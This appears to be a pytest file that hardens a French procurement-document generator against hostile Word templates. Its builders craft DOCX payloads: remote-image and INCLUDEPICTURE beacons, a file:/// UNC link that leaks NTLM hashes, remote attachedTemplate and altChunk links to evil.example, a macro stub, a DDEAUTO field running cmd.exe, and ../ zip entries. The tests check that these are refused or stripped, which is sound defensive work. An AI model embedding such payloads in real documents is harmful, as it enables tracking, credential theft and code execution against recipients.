"""Hardening, round 3 (issue 23): buyers' templates go to every bidder.

Each attack is a buyer's template built from the built-in CCAP: an image linked to ``http://…`` (a beacon),
a hyperlink ``file:///\\\\host\\share`` (NTLM leak), ``attachedTemplate`` → a remote .dotm, ``altChunk`` →
external HTML, macros (``vbaProject.bin`` and the macro-enabled type), ``DDEAUTO`` and ``INCLUDEPICTURE``
fields (simple and complex, the code split over runs), zip entries named ``../``. ``render`` refuses each
with a French message naming the part and the target, writing nothing; ``--retirer-liens-externes`` removes
what can be removed with a warning (macros and DDE: still refused); ``templates lint`` reports each one.
"""

from __future__ import annotations

import io
import re
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from clausegen.cli import cli
from clausegen.docx import external
from clausegen.docx.container import read_docx
from clausegen.docx.extract import docx_text
from clausegen.docx.ziputil import name_problem
from clausegen.render.templates import builtin_template_dir

ROOT = Path(__file__).resolve().parents[1]
QPV = ROOT / "profiles" / "travaux-qpv.yaml"
REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
DOC_RELS = "word/_rels/document.xml.rels"


def parts() -> dict[str, bytes]:
    with zipfile.ZipFile(builtin_template_dir() / "ccap.docx") as archive:
        return {n: archive.read(n) for n in archive.namelist()}


def add_rel(files: dict, rels: str, rel_id: str, kind: str, target: str) -> None:
    xml = files.get(rels, b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
                          b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"></Relationships>').decode()
    rel = f'<Relationship Id="{rel_id}" Type="{REL}/{kind}" Target="{target}" TargetMode="External"/>'
    files[rels] = xml.replace("</Relationships>", rel + "</Relationships>").encode()


def add_body(files: dict, xml: str) -> None:
    doc = files["word/document.xml"].decode()
    head, sep, tail = doc.rpartition("<w:sectPr")
    files["word/document.xml"] = (head + xml + sep + tail).encode()


def paragraph(inner: str) -> str:
    return f"<w:p>{inner}</w:p>"


IMAGE = paragraph(
    '<w:r><w:drawing><wp:inline><wp:extent cx="952500" cy="952500"/><wp:docPr id="99" name="Image"/>'
    '<a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:nvPicPr><pic:cNvPr id="99" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdBeacon"/><a:stretch><a:fillRect/></a:stretch></pic:blipFill>'
    '<pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/></a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr>'
    '</pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r>')


def linked_image(files):
    add_rel(files, DOC_RELS, "rIdBeacon", "image", "http://beacon.example/pixel.png?dce=1")
    add_body(files, IMAGE)


def share_link(files):
    add_rel(files, DOC_RELS, "rIdShare", "hyperlink", "file:///\\\\host.example\\share\\doc.docx")
    add_body(files, paragraph('<w:hyperlink r:id="rIdShare"><w:r><w:t>Voir le partage</w:t></w:r></w:hyperlink>'))


def remote_template(files):
    add_rel(files, "word/_rels/settings.xml.rels", "rIdTpl", "attachedTemplate", "http://evil.example/modele.dotm")
    settings = files["word/settings.xml"].decode()
    files["word/settings.xml"] = re.sub(r"(<w:settings[^>]*>)", r'\1<w:attachedTemplate r:id="rIdTpl"/>', settings, count=1).encode()


def alt_chunk(files):
    add_rel(files, DOC_RELS, "rIdChunk", "aFChunk", "http://evil.example/piece.html")
    add_body(files, '<w:altChunk r:id="rIdChunk"/>')


def macros(files):
    files["word/vbaProject.bin"] = b"\xd0\xcf\x11\xe0 macros"
    types = files["[Content_Types].xml"].decode()
    types = types.replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
                          "application/vnd.ms-word.document.macroEnabled.main+xml")
    types = types.replace("</Types>", '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>')
    files["[Content_Types].xml"] = types.encode()


def dde_field(files):
    add_body(files, paragraph('<w:fldSimple w:instr=\'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"\'>'
                              '<w:r><w:t>Chargement…</w:t></w:r></w:fldSimple>'))


def include_picture(files):
    add_body(files, paragraph(
        '<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLUDEPIC</w:instrText></w:r>'
        '<w:r><w:instrText xml:space="preserve">TURE "http://beacon.example/p.png" \\d </w:instrText></w:r>'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Logo</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>'))


ATTACKS = {  # name → (builder, part named, target named, removable)
    "image liée": (linked_image, DOC_RELS, "http://beacon.example/pixel.png", True),
    "lien vers un partage": (share_link, DOC_RELS, "file:///\\\\host.example\\share", True),
    "modèle attaché distant": (remote_template, "word/_rels/settings.xml.rels", "http://evil.example/modele.dotm", True),
    "altChunk": (alt_chunk, DOC_RELS, "http://evil.example/piece.html", True),
    "macros": (macros, "word/vbaProject.bin", "", False),
    "DDEAUTO": (dde_field, "word/document.xml", "DDEAUTO", False),
    "INCLUDEPICTURE": (include_picture, "word/document.xml", 'INCLUDEPICTURE "http://beacon.example/p.png"', True),
}


def template(folder: Path, *builders) -> Path:
    """The folder ``folder`` holding ccap.docx: the built-in one changed by ``builders``."""
    files = parts()
    for build in builders:
        build(files)
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / "ccap.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return folder


def render(tmp_path: Path, folder: Path, *extra):
    return CliRunner().invoke(cli, ["render", str(QPV), "-o", str(tmp_path / "dce"), "--modeles", str(folder), "--documents", "ccap", *extra],
                              catch_exceptions=False)


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_render_refuses_what_reaches_outside(tmp_path, attack):
    build, part, target, _ = ATTACKS[attack]
    result = render(tmp_path, template(tmp_path / "modeles", build))
    assert result.exit_code == 2, result.stdout
    message = result.stderr
    assert message.startswith("ccap.docx : le modèle contient 1 élément qui irait") or "ccap.docx :" in message
    assert part in message and target in message, message
    assert "Erreur interne" not in message and "Traceback" not in message
    assert not (tmp_path / "dce").exists()


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_lint_reports_each_one(tmp_path, attack):
    build, part, target, removable = ATTACKS[attack]
    folder = tmp_path / "modeles"
    template(folder, build)
    result = CliRunner().invoke(cli, ["templates", "lint", str(folder)])
    assert result.exit_code == 1
    lines = [line for line in result.stdout.splitlines() if part in line and target in line]
    assert len(lines) == 1 and ": erreur: " in lines[0], result.stdout
    assert ("--retirer-liens-externes" in lines[0]) == removable


def test_lint_reports_every_item_of_one_template(tmp_path):
    folder = tmp_path / "modeles"
    template(folder, *(build for build, *_ in ATTACKS.values()))
    result = CliRunner().invoke(cli, ["templates", "lint", str(folder)])
    for _, part, target, _ in ATTACKS.values():
        assert any(part in line and target in line for line in result.stdout.splitlines()), (part, target)


def _removed(tmp_path, *builders):
    result = render(tmp_path, template(tmp_path / "modeles", *builders), "--retirer-liens-externes")
    return result, tmp_path / "dce" / "ccap.docx"


def test_removal_on_request_leaves_nothing_external(tmp_path):
    removable = [build for build, _, _, ok in ATTACKS.values() if ok]
    result, produced = _removed(tmp_path, *removable)
    assert result.exit_code == 0, result.stderr
    warnings = [line for line in result.stderr.splitlines() if line.startswith("Attention : ccap.docx : ")]
    assert len(warnings) == len(removable) and all("élément retiré du document produit : " in line for line in warnings)
    with zipfile.ZipFile(produced) as archive:
        names = archive.namelist()
        everything = b"".join(archive.read(n) for n in names)
        assert external.inspect([(n, archive.read(n)) for n in names]) == []
    assert b"External" not in everything and b"beacon.example" not in everything and b"evil.example" not in everything
    assert b"host.example" not in everything and b"INCLUDEPIC" not in everything
    text = docx_text(produced.read_bytes())
    assert "Voir le partage" in text and "Logo" in text  # the text of a link and a field's result stay
    assert re.search(r"744\s+heures", text)  # the clause itself is there


@pytest.mark.parametrize("attack", ["macros", "DDEAUTO"])
def test_macros_and_dde_are_refused_even_on_request(tmp_path, attack):
    build, part, target, _ = ATTACKS[attack]
    result, produced = _removed(tmp_path, build)
    assert result.exit_code == 2 and part in result.stderr and target in result.stderr
    assert "ne peut pas être retiré automatiquement" in result.stderr
    assert not produced.exists()


def test_refusal_comes_back_after_a_removal_in_the_same_process(tmp_path):
    """The templates prepared under --retirer-liens-externes are not reused by a later render without it."""
    folder = template(tmp_path / "modeles", linked_image)
    assert render(tmp_path / "a", folder, "--retirer-liens-externes").exit_code == 0
    assert render(tmp_path / "b", folder).exit_code == 2


def test_safe_hyperlinks_stay(tmp_path):
    def web_link(files):
        add_rel(files, DOC_RELS, "rIdWeb", "hyperlink", "https://www.legifrance.gouv.fr/codes/id/LEGITEXT000037701019")
        add_body(files, paragraph('<w:hyperlink r:id="rIdWeb"><w:r><w:t>Légifrance</w:t></w:r></w:hyperlink>'))

    result = render(tmp_path, template(tmp_path / "modeles", web_link))
    assert result.exit_code == 0, result.stderr
    with zipfile.ZipFile(tmp_path / "dce" / "ccap.docx") as archive:
        assert b"legifrance.gouv.fr" in archive.read(DOC_RELS)


@pytest.mark.parametrize("target", ["file:///C:/Users/x/doc.docx", "\\\\host\\share", "//host/share", "javascript:alert(1)",
                                    "search-ms:query=x", "C:\\dossier\\pièce.docx", "http://host\\..\\x"])
def test_unsafe_hyperlink_targets(target):
    files = parts()
    add_rel(files, DOC_RELS, "rIdX", "hyperlink", target.replace("&", "&amp;"))
    assert [i.rel_id for i in external.inspect(list(files.items()))] == ["rIdX"]


def test_builtin_templates_carry_nothing_external():
    for path in sorted(builtin_template_dir().glob("*.docx")):
        with zipfile.ZipFile(path) as archive:
            assert external.inspect([(n, archive.read(n)) for n in archive.namelist()]) == [], path.name


@pytest.mark.parametrize("instruction,kind", [
    (" PAGE ", None), (" MERGEFIELD nom ", None), ("HYPERLINK \"https://x.example\"", None), ("HYPERLINK \\l \"signet\"", None),
    ("DDE excel \"x\"", False), ("  ddeauto cmd ", False), ("INCLUDETEXT \"\\\\\\\\h\\\\s\\\\t.docx\"", True), ("LINK Excel.Sheet.8 \"x.xls\"", True),
    ("HYPERLINK \"file:///\\\\\\\\h\\\\s\"", True), ("IMPORT x.wmf", True),
])
def test_field_kinds(instruction, kind):
    found = external.field_kind(instruction)
    assert (found[1] if found else None) == kind


# -- zip entry names --------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("entry", ["../evil.txt", "word/../../evil.xml", "/etc/x", "word\\..\\x.xml", "C:/x.xml", "word//x.xml", "./x"])
def test_template_with_unclean_entry_names_is_refused(tmp_path, entry):
    files = parts()
    files[entry] = b"<x/>" if entry.endswith(".xml") else b"x"
    folder = template(tmp_path / "modeles", lambda f: f.update(files))
    result = render(tmp_path, folder)
    assert result.exit_code == 2 and "nom interdit" in result.stderr and "Traceback" not in result.stderr
    assert not (tmp_path / "dce").exists()
    lint = CliRunner().invoke(cli, ["templates", "lint", str(folder)])
    assert lint.exit_code == 1 and "nom interdit" in lint.stdout


def test_produced_entry_names_are_always_clean(tmp_path):
    result = CliRunner().invoke(cli, ["render", str(QPV), "-o", str(tmp_path / "dce")])
    assert result.exit_code == 0
    for produced in (tmp_path / "dce").glob("*.docx"):
        with zipfile.ZipFile(produced) as archive:
            assert all(name_problem(n) is None for n in archive.namelist())


def test_the_writer_never_writes_an_unclean_name():
    from clausegen.docx.ziputil import deflate

    for name in ("../x", "/x", "a\\b", "a//b"):
        with pytest.raises(ValueError):
            deflate(name, b"x")


def test_read_docx_still_reads_the_builtin_templates():
    for path in sorted(builtin_template_dir().glob("*.docx")):
        assert read_docx(path.name, path.read_bytes())
